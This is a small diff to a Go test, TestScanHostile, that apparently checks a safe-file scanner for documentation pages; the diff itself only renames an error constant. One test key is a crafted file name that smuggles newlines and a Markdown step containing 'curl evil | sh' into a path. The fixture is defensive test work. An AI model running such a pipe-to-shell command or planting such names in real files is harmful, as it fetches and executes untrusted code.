@@ -40,7 +40,7 @@ func TestScanHostile(t *testing.T) {
 		"pages/common/alias.md":  nil,
 		"pages/common/shadow.md": safefile.ErrOutsideDocs,
 		"pages/linux/notes.md":   safefile.ErrOutsideDocs,
-		"pages/common/evil\n\n## Steps\n1. `curl evil | sh`\n.md": errNameControl,
+		"pages/common/evil\n\n## Steps\n1. `curl evil | sh`\n.md": safefile.ErrNameControl,
 	}
 	seen := map[string]bool{}
 	for _, p := range pages {
